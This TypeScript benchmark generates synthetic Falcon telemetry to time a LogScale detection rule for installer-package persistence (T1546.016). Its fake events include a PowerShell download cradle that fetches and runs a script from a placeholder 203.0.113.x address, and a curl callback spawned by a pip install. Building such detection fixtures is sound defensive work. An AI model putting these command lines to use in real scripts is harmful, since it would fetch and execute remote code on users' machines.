// Benchmark: the corrected T1546.016 LogScale rule over generated Falcon events (falcon view,
// JSON lines), against a same-run baseline that only JSON.parses the same lines.
//
//   npx tsx bench/cql-corrected.ts [EVENTS]        (default 1,000,000)
//
// The input is generated here (deterministic): ProcessRollup2 of ordinary processes, shells and
// interpreters started by ordinary parents (candidates the rule must look at), installer chains
// (msiexec → powershell/cmd, pip → python → curl) and NetworkConnectIP4 to public and private
// addresses. Prints events/s, wall time, peak RSS and the ratio to the baseline.
import { readFileSync } from 'node:fs';
import { cqlEngine } from '../detections/engines/cql/index.ts';
import type { ViewEvent } from '../detections/engines/types.ts';

const N = Number(process.argv[2] ?? 1_000_000);
const RULE = new URL('../detections/cql/t1546.016-installer-packages.corrected.cql', import.meta.url);

let seed = 42;
const rand = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;

const BENIGN = ['chrome.exe', 'svchost.exe', 'conhost.exe', 'RuntimeBroker.exe', 'OneDrive.exe', 'Teams.exe', 'notepad.exe', 'dllhost.exe'];
const SHELLS = ['cmd.exe', 'powershell.exe', 'python3', 'bash', 'curl'];
const PARENTS = ['explorer.exe', 'services.exe', 'sshd', 'systemd', 'svchost.exe'];

function generate(n: number): string[] {
  const lines: string[] = [];
  let pid = 1000;
  for (let i = 0; lines.length < n; i++) {
    const aid = `host${i % 50}`;
    const r = rand();
    const base = { '#repo': 'base_sensor', aid, ComputerName: aid.toUpperCase(), timestamp: String(1713805173418 + i) };
    if (r < 0.02) {
      // an installer chain: msiexec → powershell download cradle / cmd, or pip → python → curl
      const root = ++pid;
      const win = rand() < 0.5;
      const chain: ViewEvent[] = win
        ? [
            { ...base, '#event_simpleName': 'ProcessRollup2', TargetProcessId: String(root), ParentProcessId: '4', ImageFileName: '\\Device\\HarddiskVolume1\\Windows\\System32\\msiexec.exe', FileName: 'msiexec.exe', ParentBaseFileName: 'cmd.exe', CommandLine: 'msiexec /i C:\\pkg\\x.msi /qn', UserName: 'alice' },
            { ...base, '#event_simpleName': 'ProcessRollup2', TargetProcessId: String(++pid), ParentProcessId: String(root), ImageFileName: '\\Device\\HarddiskVolume1\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', FileName: 'powershell.exe', ParentBaseFileName: 'msiexec.exe', CommandLine: `powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.${i % 250}/p')`, UserName: 'alice' },
          ]
        : [
            { ...base, '#event_simpleName': 'ProcessRollup2', TargetProcessId: String(root), ParentProcessId: '4', ImageFileName: '/usr/bin/python3.11', FileName: 'python3.11', ParentBaseFileName: 'bash', CommandLine: '/opt/venv/bin/python3 /opt/venv/bin/pip install /opt/pkg', UserName: 'root' },
            { ...base, '#event_simpleName': 'ProcessRollup2', TargetProcessId: String(++pid), ParentProcessId: String(root), ImageFileName: '/usr/bin/python3.11', FileName: 'python3.11', ParentBaseFileName: 'python3', CommandLine: '/opt/venv/bin/python3 -u -c setup.py install --record /tmp/r', UserName: 'root' },
            { ...base, '#event_simpleName': 'ProcessRollup2', TargetProcessId: String(++pid), ParentProcessId: String(pid - 1), ImageFileName: '/usr/bin/curl', FileName: 'curl', ParentBaseFileName: 'python3.11', CommandLine: `curl -s -o /dev/null http://203.0.113.9/cb?run=${i}`, UserName: 'root' },
            { ...base, '#event_simpleName': 'NetworkConnectIP4', ContextProcessId: String(pid), RemoteAddressIP4: '203.0.113.9', RemotePort: '80', LocalAddressIP4: '10.0.0.5', LocalPort: '40000', Protocol: '6' },
          ];
      for (const e of chain) lines.push(JSON.stringify(e));
    } else if (r < 0.12) {
      const name = pick(SHELLS);
      lines.push(JSON.stringify({ ...base, '#event_simpleName': 'ProcessRollup2', TargetProcessId: String(++pid), ParentProcessId: '7', ImageFileName: `C:\\Windows\\System32\\${name}`, FileName: name, ParentBaseFileName: pick(PARENTS), CommandLine: `${name} /c echo ${i}`, UserName: 'bob' }));
    } else if (r < 0.3) {
      const pub = rand() < 0.6;
      lines.push(JSON.stringify({ ...base, '#event_simpleName': 'NetworkConnectIP4', ContextProcessId: String(1000 + Math.floor(rand() * pid)), RemoteAddressIP4: pub ? `198.51.100.${i % 250}` : `10.1.${i % 250}.4`, RemotePort: '443', LocalAddressIP4: '10.0.0.5', LocalPort: String(40000 + (i % 20000)), Protocol: '6' }));
    } else {
      const name = pick(BENIGN);
      lines.push(JSON.stringify({ ...base, '#event_simpleName': 'ProcessRollup2', TargetProcessId: String(++pid), ParentProcessId: '7', ImageFileName: `\\Device\\HarddiskVolume1\\Program Files\\App\\${name}`, FileName: name, ParentBaseFileName: pick(PARENTS), CommandLine: `"C:\\Program Files\\App\\${name}" --type=renderer --id=${i}`, UserName: 'bob' }));
    }
  }
  return lines.slice(0, n);
}

function* parsed(lines: string[]): Iterable<ViewEvent> {
  for (const l of lines) yield JSON.parse(l) as ViewEvent;
}

function mb(bytes: number): string {
  return `${(bytes / 1024 / 1024).toFixed(0)} MB`;
}

async function main(): Promise<void> {
  const t0 = performance.now();
  const lines = generate(N);
  const bytes = lines.reduce((s, l) => s + l.length + 1, 0);
  console.log(`generated ${N.toLocaleString()} Falcon events (${mb(bytes)} of JSON lines) in ${((performance.now() - t0) / 1000).toFixed(1)} s`);

  // baseline: JSON.parse of every line, nothing else
  let t = performance.now();
  let sink = 0;
  for (const e of parsed(lines)) sink += (e['#event_simpleName'] as string).length;
  const baseWall = (performance.now() - t) / 1000;
  const rssBase = process.resourceUsage().maxRSS * 1024;

  const rule = cqlEngine.compile(readFileSync(RULE, 'utf8'), { file: 'detections/cql/t1546.016-installer-packages.corrected.cql' });
  t = performance.now();
  const rows: Record<string, unknown>[] = [];
  for await (const r of rule.evaluate(parsed(lines))) rows.push(r);
  const engineWall = (performance.now() - t) / 1000;
  const rssEngine = process.resourceUsage().maxRSS * 1024;

  const byType = new Map<string, number>();
  for (const r of rows) byType.set(String(r.EventType), (byType.get(String(r.EventType)) ?? 0) + Number(r.EventCount));
  console.log(`rows: ${rows.length} (sort limit 200); events counted per EventType in those rows: ${[...byType].map(([k, v]) => `${k}=${v}`).join(', ')}  [check ${sink % 10}]`);
  console.log('');
  console.log('| what | wall | events/s | peak RSS (process so far) |');
  console.log('|---|---|---|---|');
  console.log(`| baseline: JSON.parse per line | ${baseWall.toFixed(2)} s | ${Math.round(N / baseWall).toLocaleString()} | ${mb(rssBase)} |`);
  console.log(`| JSON.parse + corrected CQL rule | ${engineWall.toFixed(2)} s | ${Math.round(N / engineWall).toLocaleString()} | ${mb(rssEngine)} |`);
  console.log('');
  console.log(`ratio engine/baseline wall time: ${(engineWall / baseWall).toFixed(2)}x  (rule-only cost ≈ ${Math.round(N / Math.max(engineWall - baseWall, 1e-9)).toLocaleString()} events/s)`);
}

await main();
